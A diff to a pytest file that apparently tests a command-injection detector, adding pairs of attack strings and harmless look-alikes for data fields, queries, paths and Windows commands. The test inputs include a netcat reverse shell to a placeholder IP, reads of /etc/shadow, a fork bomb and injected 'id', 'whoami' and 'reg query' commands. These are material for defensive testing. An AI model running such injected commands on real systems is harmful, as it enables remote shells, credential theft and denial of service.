@@ -49,6 +49,9 @@ def why(text: str, place: Place = Place.DATA) -> str:
         (";if [ 1 ];then sleep 7;fi", ";if it is so then sleep"),
         ("zz(){ zz|zz& };zz", "zz(){ zz; };zz"),
         ("name;id", "name;id;date"),
+        ("& reg query HKLM", "& reg query it"),
+        ("\nid", "\nidle"),
+        (";time id", ";time is up"),
         (";python3 -c 'x=1'", "python3 -c 'x=1'"),
     ],
 )
@@ -90,6 +93,25 @@ def test_a_command_line_goes_on_with_commands() -> None:
 def test_a_field_of_commands_by_design_takes_all_but_the_unmistakable() -> None:
     assert not why("zz; cat /etc/shadow", Place.BY_DESIGN)
     assert why("zz; nc 192.0.2.7 80 -e /bin/sh", Place.BY_DESIGN)
+
+
+@pytest.mark.parametrize(
+    ("attack", "near"),
+    [
+        ("a=b | stats count | head /etc/shadow", "a=b | stats count by c | sort -count | head 7"),
+        ("zz | tail -7", 'Zz | where a == "b" | sort by c | take 7'),
+        ("zz; sh", "bash; sh; zsh"),
+        ("zz; id; whoami", "cp; mv; ln"),
+    ],
+)
+def test_queries_lists_and_paths_are_no_command_lines(attack: str, near: str) -> None:
+    assert why(attack, Place.LINE)
+    assert not why(near, Place.LINE)
+
+
+def test_what_cmd_has_built_in_is_not_called_by_a_path() -> None:
+    assert why("dir c:\\zz", Place.NO_COMMANDS)
+    assert not why("/zz/dir a/zz's.jpg", Place.NO_COMMANDS)
 
 
 def test_where_no_command_has_a_place_a_whole_command_line_is_one() -> None:
